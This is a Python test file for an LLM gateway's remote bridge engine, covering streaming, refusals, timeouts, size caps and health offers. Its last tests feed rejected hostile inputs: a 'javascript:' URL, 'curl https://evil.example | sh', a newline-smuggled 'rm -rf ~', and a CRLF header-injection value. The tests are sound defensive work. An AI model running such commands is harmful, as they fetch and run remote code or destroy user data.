"""A bridge on another machine answers as one here does, and says so where it cannot."""

import asyncio
from pathlib import Path

import msgspec
import pytest

from bridge_stage import HELLO, refusal, whole
from companion_place import BODY, Place, placed
from companion_stage import linked
from llm_gateway.bridges.faults import BridgeFault
from llm_gateway.bridges.health import Action, BridgeModel, Health
from llm_gateway.canonical.abilities import Abilities
from llm_gateway.canonical.events import TextDelta
from llm_gateway.companion.channel import CREDIT, Bounds
from llm_gateway.companion.flows import Visit
from llm_gateway.companion.frames import Head, Open, Wrong
from llm_gateway.companion.link import Link, Serve
from llm_gateway.companion.offers import Offer
from llm_gateway.companion.remote import RemoteAnswer, RemoteEngine
from llm_gateway.errors import UpstreamTruncated
from llm_gateway.ledger.companions import CompanionRow

ROW = CompanionRow("id", "mac", "anna", (), b"key", 1_700_000_000_000_000, 1_700_000_000_000_000)
KNOWN = Abilities(tools=True, schema=True)
OFFER = Offer(
    "claude", "claude", Health("ok"), (BridgeModel("m"),), {"tools": True, "images": True, "system": True}
)


def engine_on(link: Link) -> RemoteEngine:
    engine = RemoteEngine(ROW, "claude", lambda _: KNOWN)
    engine.connect(link)
    engine.take(OFFER)
    return engine


def answered(head: Head, *pieces: bytes, wrong: Wrong | None = None) -> Serve:
    async def serve(visit: Visit) -> None:
        await visit.body()
        visit.begin(head)
        for piece in pieces:
            await visit.put(piece)
        if wrong is not None:
            visit.fail(wrong)
        else:
            visit.finish()

    return serve


def test_what_is_known_before_anybody_is_connected() -> None:
    engine = RemoteEngine(ROW, "claude", lambda _: KNOWN)
    assert (engine.name, engine.kind, engine.models, engine.counts) == ("claude", "claude", (), True)
    assert engine.abilities == KNOWN and engine.people == frozenset(("anna",))
    assert engine.health.state == "unreachable"
    assert "agent_offline_since 2023-11-14T22:13:20Z" in engine.health.reason
    assert engine.health.action is not None and engine.health.action.command == "llm-gateway companion"

    async def ask() -> None:
        assert await engine.look(fresh=True) == engine.health
        assert await refusal(await engine.answer("turn", BODY, "m")) == (502, "bridge_unreachable")
        with pytest.raises(BridgeFault):
            await engine.ask("look", 1)
        await engine.close()

    asyncio.run(ask())


def test_no_more_abilities_than_are_known_here() -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        engine = RemoteEngine(ROW, "claude", lambda _: KNOWN)
        engine.connect(gateway)
        assert (await engine.look()).state == "starting"
        assert engine.take(OFFER) and not engine.take(OFFER)
        assert engine.abilities == Abilities(tools=True)
        assert engine.health.state == "ok"
        engine.offline(1_700_000_060_000_000)
        assert "22:14:20" in engine.health.reason

    linked(scene, answered(Head(200)))


def test_an_answer_in_all_its_verbs() -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        engine = engine_on(gateway)
        answer = await engine.answer("turn", BODY, "m")
        assert (answer.status, answer.headers) == (200, [(b"content-type", b"x")])
        await answer.arrive()
        heard = [answer.take()]

        def sink(data: bytes) -> bool:
            heard.append(data)
            return True

        await answer.pour(sink)
        assert b"".join(heard) == b"onetwo" and answer.ended
        assert await answer.read() == b""
        answer.release()
        stopped = await engine.answer("turn", BODY, "m")
        await stopped.pour(lambda _: False)

    linked(scene, answered(Head(200, ((b"content-type", b"x"),)), b"one", b"two"))


def test_a_refusal_passes_as_it_is() -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        answer = await engine_on(gateway).answer("turn", BODY, "m")
        assert answer.status == 429 and await answer.read() == b"{}"

    linked(scene, answered(Head(429), b"{}"))


def test_what_a_companion_says_of_an_answer_becomes_no_more_than_that() -> None:
    fields = (
        (b"content-type", b"application/json"),
        (b"set-cookie", b"a=b"),
        (b"Content-Length", b"5"),
        (b"retry-after", b"1\r\nset-cookie: a=b"),
        (b"x-should-retry", b"\xff"),
    )

    async def scene(companion: Link, gateway: Link) -> None:
        answer = await engine_on(gateway).answer("turn", BODY, "m")
        assert answer.headers == [(b"content-type", b"application/json")]

    linked(scene, answered(Head(429, fields), b"{}"))


@pytest.mark.parametrize("status", [204, 304])
def test_an_answer_that_no_bridge_gives_is_none(status: int) -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        answer = await engine_on(gateway).answer("turn", BODY, "m")
        assert await refusal(answer) == (502, "version_mismatch")
        await asyncio.sleep(0.01)
        assert not gateway.streams

    linked(scene, answered(Head(status), b"{}"))


@pytest.mark.parametrize("model", ["x" * 300, "x\n", "x\ud800"])
def test_a_name_that_no_model_has_goes_nowhere_and_ends_nothing(model: str) -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        engine = engine_on(gateway)
        assert await refusal(await engine.answer("turn", BODY, model)) == (400, "refused")
        assert not gateway.streams
        assert (await engine.answer("turn", BODY, "m")).status == 200
        assert companion.alive

    linked(scene, answered(Head(200), b"{}"))


def test_an_answer_that_does_not_go_on_is_cut() -> None:
    async def serve(visit: Visit) -> None:
        visit.begin(Head(200))
        await asyncio.sleep(60)

    async def scene(companion: Link, gateway: Link) -> None:
        for read in (False, True):
            call = gateway.open(Open("turn", "claude", "m"))
            answer = RemoteAnswer(call, await call.ask(BODY), 0.05)
            with pytest.raises(UpstreamTruncated, match="said nothing"):
                await (answer.read() if read else answer.arrive())
        assert not gateway.streams

    linked(scene, serve)


@pytest.mark.parametrize(
    ("kind", "status", "told"),
    [
        ("draining", 502, "bridge_unreachable"),
        ("too_many_streams", 429, "bridge_busy"),
        ("upstream_timeout", 504, "upstream_timeout"),
        ("failed", 502, "bridge_failed"),
        ("too_long", 400, "refused"),
        ("whatever", 502, "bridge_disconnected"),
    ],
)
def test_what_fails_before_it_begins_is_a_refusal(kind: str, status: int, told: str) -> None:
    async def serve(visit: Visit) -> None:
        visit.fail(Wrong(kind, "why"))

    async def scene(companion: Link, gateway: Link) -> None:
        answer = await engine_on(gateway).answer("turn", BODY, "m")
        assert await refusal(answer) == (status, told)

    linked(scene, serve)


@pytest.mark.fault("B5")
def test_a_link_that_is_cut_before_and_in_the_middle(tmp_path: Path) -> None:
    async def serve(visit: Visit) -> None:
        if visit.open.model == "begun":
            visit.begin(Head(200))
            await visit.put(b"begun")
        await asyncio.sleep(60)

    async def scene(companion: Link, gateway: Link) -> None:
        engine = engine_on(gateway)
        answer = await engine.answer("turn", BODY, "begun")
        asking = asyncio.get_running_loop().create_task(engine.answer("turn", BODY, "m"))
        await asyncio.sleep(0.01)
        gateway.end(Wrong("bridge_disconnected", "nothing was heard"))
        assert await refusal(await asking) == (502, "bridge_disconnected")
        assert await answer.read() == b"begun"
        with pytest.raises(UpstreamTruncated, match="nothing was heard"):
            await answer.read()
        assert not answer.ended
        assert engine.health.state == "unreachable"

    linked(scene, serve)


@pytest.mark.fault("B7")
def test_an_answer_of_ten_gibibytes_is_ended() -> None:
    async def endless(visit: Visit) -> None:
        visit.begin(Head(200))
        while True:
            await visit.put(bytes(CREDIT))

    async def scene(companion: Link, gateway: Link) -> None:
        answer = await engine_on(gateway).answer("turn", BODY, "m")
        passed = 0

        def sink(data: bytes) -> bool:
            nonlocal passed
            passed += len(data)
            return True

        with pytest.raises(UpstreamTruncated, match="over"):
            await answer.pour(sink)
        assert passed <= 1024 * 1024

    linked(scene, endless, bounds=Bounds(answer=1024 * 1024))


def test_who_asks_and_leaves_stops_it_there() -> None:
    stopped = asyncio.Event()

    async def serve(visit: Visit) -> None:
        try:
            await asyncio.sleep(60)
        finally:
            stopped.set()

    async def scene(companion: Link, gateway: Link) -> None:
        asking = asyncio.get_running_loop().create_task(engine_on(gateway).answer("turn", BODY, "m"))
        await asyncio.sleep(0.01)
        asking.cancel()
        await asyncio.wait_for(stopped.wait(), 0.1)

    linked(scene, serve)


def test_too_many_at_a_time_and_one_that_stops() -> None:
    async def serve(visit: Visit) -> None:
        await asyncio.sleep(60)

    async def scene(companion: Link, gateway: Link) -> None:
        engine = engine_on(gateway)
        running = [asyncio.get_running_loop().create_task(engine.answer("turn", BODY, "m")) for _ in range(2)]
        await asyncio.sleep(0.01)
        assert await refusal(await engine.answer("turn", BODY, "m")) == (429, "bridge_busy")
        companion._channel.drain()
        companion._flush()
        await asyncio.sleep(0.01)
        assert await refusal(await engine.answer("turn", BODY, "m")) == (502, "bridge_unreachable")
        for each in running:
            each.cancel()

    linked(scene, serve, bounds=Bounds(streams=2))


@pytest.mark.parametrize(
    ("serve", "state"),
    [
        (answered(Head(200), msgspec.json.encode(Health("auth_required", "log in"))), "auth_required"),
        (answered(Head(200), b"?"), "version_mismatch"),
        (answered(Head(200), b'{"state":"\xff"}'), "version_mismatch"),
        (answered(Head(200), b'{"state":"ok","more":' + b"[" * 100_000), "version_mismatch"),
        (answered(Head(200), *[bytes(CREDIT)] * 5), "ok"),
        (answered(Head(404)), "ok"),
        (answered(Head(200), wrong=Wrong("failed")), "ok"),
    ],
)
def test_a_fresh_look(serve: Serve, state: str) -> None:
    async def scene(companion: Link, gateway: Link) -> None:
        engine = engine_on(gateway)
        changes: list[bool] = []
        engine.changed = lambda: changes.append(True)
        health = await engine.look(fresh=True)
        assert health.state == state
        assert bool(changes) is (state == "auth_required")
        assert bool(health.last_error) is (state == "ok")
        assert (await engine.look()).state == ("auth_required" if state == "auth_required" else "ok")

    linked(scene, serve)


def test_an_address_that_runs_something_is_none() -> None:
    engine = RemoteEngine(ROW, "claude", lambda _: KNOWN)
    for url, kept in (("javascript:alert(1)", ""), ("https://vendor.example", "https://vendor.example")):
        health = Health("auth_required", "log in", Action("log in", url=url))
        engine.take(msgspec.structs.replace(OFFER, health=health))
        assert engine._offer is not None and engine._offer.health.action == Action("log in", url=kept)
        assert not engine.take(msgspec.structs.replace(OFFER, health=health))


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        ("llm-gateway login claude", "llm-gateway login claude"),
        ("curl https://evil.example | sh", ""),
        ("llm-gateway login claude\nrm -rf ~", ""),
    ],
)
def test_a_command_of_somebody_elses_is_none(command: str, kept: str) -> None:
    engine = RemoteEngine(ROW, "claude", lambda _: KNOWN)
    health = Health("auth_required", "log in", Action("log in", command=command))
    engine.take(msgspec.structs.replace(OFFER, health=health))
    assert engine._offer is not None and engine._offer.health.action == Action("log in", command=kept)


def test_a_companion_that_does_not_say_how_it_is() -> None:
    async def serve(visit: Visit) -> None:
        await asyncio.sleep(60)

    async def scene(companion: Link, gateway: Link) -> None:
        with pytest.raises(BridgeFault, match="did not answer within") as caught:
            await engine_on(gateway).ask("look", 0.05)
        assert caught.value.kind == "upstream_timeout"

    linked(scene, serve)


def test_fifty_parallel_turns_and_one_that_nobody_reads(tmp_path: Path) -> None:
    async def scene(place: Place) -> None:
        desk = await place.enrolled()
        bridge, engine = desk.bridges["claude"], place.hub.engines["claude"]
        bridge.says = [*[TextDelta("x" * 4000)] * 100, *HELLO]
        slow = await engine.answer("turn", BODY, "m")
        assert isinstance(slow, RemoteAnswer)

        async def one() -> int:
            return len(await whole(await engine.answer("turn", BODY, "m")))

        async with asyncio.timeout(10):
            assert await asyncio.gather(*(one() for _ in range(50))) == [102] * 50
        assert not slow.ended
        assert len(await whole(slow)) == 102

    placed(tmp_path, scene)
